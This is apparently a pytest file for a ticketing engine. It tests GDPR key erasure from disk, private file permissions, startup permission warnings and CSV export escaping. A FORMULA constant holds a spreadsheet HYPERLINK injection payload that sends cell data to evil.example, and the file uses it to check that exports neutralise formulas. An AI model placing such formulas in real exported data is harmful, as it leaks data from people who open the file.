"""Data at rest on the embedded store, over HTTP (in-process) and the CLI (#15 items 8,
11, 12): an erased subject's key is in no file of the data directory once the erasure
answers; the data directory and every file in it are the engine's user's only, also
after a rebuild and an export into it; and a CSV export neutralises formula cells.

Each test starts from the umask most systems give (022), so only the engine's own
measures make the files private.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import logging
import os
import stat
import subprocess
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from engine.bootstrap import Runtime, build_runtime
from engine.settings import Settings

ADMIN_KEY = "at-rest-admin-key-0123456789abcdef"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def common_umask() -> Iterator[None]:
    previous = os.umask(0o022)
    yield
    os.umask(previous)


@pytest.fixture(params=["sqlite", pytest.param("kafka", marks=pytest.mark.kafka)])
def runtime(
    request: pytest.FixtureRequest, tmp_path: Path, common_umask: None
) -> Iterator[Runtime]:
    store: dict[str, str] = {}
    if request.param == "kafka":
        store = {
            "KAFKA_BOOTSTRAP_SERVERS": request.getfixturevalue("kafka_bootstrap"),
            "KAFKA_TOPIC": f"ticketing.atrest.{uuid.uuid4().hex[:10]}",
        }
    settings = Settings(
        data_dir=tmp_path / "data",
        bootstrap_admin_key=ADMIN_KEY,
        checkpoint_interval_s=0,
        **store,  # type: ignore[arg-type]
    )
    rt = build_runtime(settings)
    yield rt
    rt.close()


def store_env(runtime: Runtime) -> dict[str, str]:
    """The environment that gives a CLI process the runtime's event store."""
    settings = runtime.settings
    if not settings.uses_kafka:
        return {}
    assert settings.kafka_bootstrap_servers is not None
    return {
        "KAFKA_BOOTSTRAP_SERVERS": settings.kafka_bootstrap_servers,
        "KAFKA_TOPIC": settings.kafka_topic,
    }


@pytest.fixture
def client(runtime: Runtime) -> Iterator[TestClient]:
    with TestClient(create_app(runtime), headers={"Authorization": f"Bearer {ADMIN_KEY}"}) as c:
        yield c


def ok(response: Any, status: int = 200) -> Any:
    assert response.status_code == status, response.text
    return response.json()


def desk_day(client: TestClient) -> tuple[str, str, int]:
    """A queue, a requester who opens a ticket, comments and cancels it with a reason
    that is a formula. Returns (their principal id, the ticket id, the last position)."""
    ok(client.post("/queues", json={"name": "service-desk"}), 201)
    issued = ok(client.post("/api-keys", json={"name": "Bob", "role": "requester"}), 201)
    bob = {"Authorization": f"Bearer {issued['extra']['api_key']}"}
    ticket = ok(
        client.post(
            "/tickets",
            headers=bob,
            json={
                "title": "VPN down",
                "description": "cannot connect from home",
                "requester_name": "Bob Smith",
                "category": "network",
                "impact": "high",
                "urgency": "medium",
                "queue": "service-desk",
            },
        ),
        201,
    )
    tid = ticket["aggregate_id"]
    ok(client.post(f"/tickets/{tid}/comments", headers=bob, json={"body": "still down"}))
    done = ok(client.post(f"/tickets/{tid}/cancel", headers=bob, json={"reason": FORMULA}))
    return issued["extra"]["principal_id"], tid, done["position"]


def files_holding(root: Path, secret: bytes) -> list[str]:
    """Every file under root (recursively, binary) that holds the secret or any 8
    consecutive bytes of it."""
    pieces = [secret[i : i + 8] for i in range(len(secret) - 7)]
    found = []
    for path in sorted(p for p in root.rglob("*") if p.is_file()):
        content = path.read_bytes()
        if any(piece in content for piece in pieces):
            found.append(path.relative_to(root).as_posix())
    return found


def modes(root: Path) -> dict[str, str]:
    """The permission bits of root and of everything under it."""
    paths = [root, *root.rglob("*")]
    return {
        p.relative_to(root.parent).as_posix(): f"{stat.S_IMODE(p.lstat().st_mode):04o}"
        for p in paths
    }


def cli(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    # A fresh process with the common umask: the CLI must make its files private itself.
    return subprocess.run(
        [sys.executable, "-m", "cli", *args],
        capture_output=True,
        text=True,
        timeout=120,
        umask=0o022,
        env={
            **os.environ,
            "TICKETING_CLOCK": "off",
            "TICKETING_CHECKPOINT_INTERVAL_S": "0",
            **env,
        },
    )


def test_an_erased_subjects_key_is_in_no_file_of_the_data_directory(
    runtime: Runtime, client: TestClient
) -> None:
    bob, tid, _ = desk_day(client)
    data_dir = runtime.settings.data_dir
    key = runtime.app.keys.key_for(bob)
    assert key is not None and len(key) == 32
    # The key is on disk while the subject is not erased (the check can find it).
    assert files_holding(data_dir, key) != []

    ok(client.post(f"/subjects/{bob}/erase", json={"legal_basis": "GDPR Art. 17(1)(a)"}))

    # Once the erasure has answered, no file holds the key: not the key store, its
    # journal or WAL, the event store, the views or anything else.
    assert files_holding(data_dir, key) == []
    assert ok(client.get(f"/tickets/{tid}"))["title"] == "[erased]"
    # Still true once the views have applied the erasure and the server has stopped.
    runtime.close()
    assert files_holding(data_dir, key) == []


def test_the_data_directory_and_every_file_in_it_are_private(
    runtime: Runtime, client: TestClient
) -> None:
    bob, tid, _ = desk_day(client)
    data_dir = runtime.settings.data_dir
    ok(client.post("/checkpoints"), 201)
    ok(client.post(f"/subjects/{bob}/erase", json={"legal_basis": "GDPR Art. 17(1)(a)"}))
    assert client.get("/audit/export?format=csv").status_code == 200
    runtime.views.rebuild()  # new generations of every view, written while serving
    ok(client.get(f"/tickets/{tid}/history"))
    # While serving, the SQLite side files (-wal, -shm) are there too.
    serving = modes(data_dir)
    store = "data/kafka-cache.sqlite" if runtime.settings.uses_kafka else "data/events.sqlite"
    assert {store, f"{store}-wal", f"{store}-shm"} <= set(serving)
    runtime.close()

    # The operator's tools, each a fresh process: a rebuild and exports into the data
    # directory.
    for args in (
        ("rebuild",),
        ("export", "--format", "csv", "--out", str(data_dir / "audit.csv")),
        ("export", "--ticket", tid, "--bundle", str(data_dir / "bundle.json")),
    ):
        done = cli(*args, "--data-dir", str(data_dir), env=store_env(runtime))
        assert done.returncode == 0, done.stderr

    found = {**serving, **modes(data_dir)}
    # The workload made what it should (the check covers them all): the stores, the
    # signing key, views rebuilt twice (generation 3), the exports.
    expected = {store, "data/keys.sqlite", "data/signing.key", "data/clock.sqlite"}
    expected |= {"data/views/queue.3.sqlite", "data/audit.csv", "data/bundle.json"}
    assert expected <= set(found)
    wider = {
        name: mode
        for name, mode in found.items()
        if mode != ("0700" if name in ("data", "data/views") else "0600")
    }
    assert wider == {}


def test_a_data_directory_others_can_read_gets_a_warning_at_start(
    tmp_path: Path, common_umask: None, caplog: pytest.LogCaptureFixture
) -> None:
    data_dir = tmp_path / "data"
    data_dir.mkdir(mode=0o755)
    (data_dir / "events.sqlite").touch(mode=0o644)
    settings = Settings(data_dir=data_dir, bootstrap_admin_key=ADMIN_KEY, projections="off")
    with caplog.at_level(logging.WARNING, logger="ticketing"):
        build_runtime(settings, start_views=False).close()
    warnings = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    # One line per path: the path, the mode found and the fix.
    assert f"data directory {data_dir} has mode 0755" in warnings[0]
    assert warnings[0].endswith(f"fix: chmod 700 {data_dir}")
    assert any(
        f"data file {data_dir / 'events.sqlite'} has mode 0644" in w
        and w.endswith(f"chmod 600 {data_dir / 'events.sqlite'}")
        for w in warnings
    )
    # The engine leaves the operator's modes alone; what it creates itself is private.
    assert stat.S_IMODE(data_dir.stat().st_mode) == 0o755
    assert stat.S_IMODE((data_dir / "keys.sqlite").stat().st_mode) == 0o600

    # A private data directory starts without a warning.
    caplog.clear()
    data_dir.chmod(0o700)
    (data_dir / "events.sqlite").chmod(0o600)
    with caplog.at_level(logging.WARNING, logger="ticketing"):
        build_runtime(settings, start_views=False).close()
    assert [r.getMessage() for r in caplog.records if "mode" in r.getMessage()] == []


def test_csv_export_neutralises_formulas_and_jsonl_keeps_every_value(
    runtime: Runtime, client: TestClient
) -> None:
    _, tid, head = desk_day(client)
    query = f"/audit/export?ticket={tid}&min_position={head}"

    raw = client.get(f"{query}&format=csv").text
    body, trailer = raw[: raw.rindex("# sha256=")], raw[raw.rindex("# sha256=") :]
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    cancelled = next(r for r in rows if r["type"] == "TicketCancelled")
    # The cell reads as text in a spreadsheet: quoted, with a single quote first.
    assert cancelled["reason"] == "'" + FORMULA
    assert '"\'=HYPERLINK(""http://evil.example' in body
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
    # The digest covers the bytes handed out, neutralised cells included.
    assert trailer == f"# sha256={hashlib.sha256(body.encode()).hexdigest()}\n"

    lines = client.get(f"{query}&format=jsonl").text.splitlines()
    items = [json.loads(line) for line in lines[:-1]]
    assert next(i for i in items if i["type"] == "TicketCancelled")["reason"] == FORMULA
